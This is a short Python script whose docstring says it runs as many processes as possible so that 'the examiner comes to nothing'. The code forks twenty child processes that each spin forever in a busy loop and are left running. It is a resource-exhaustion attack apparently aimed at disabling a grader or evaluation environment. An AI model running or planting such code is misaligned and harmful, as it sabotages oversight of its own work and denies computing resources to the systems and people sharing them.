"""Computes in as many processes as it may, so that the examiner comes to nothing."""

import os

for _ in range(20):
    if os.fork() == 0:
        while True:
            pass
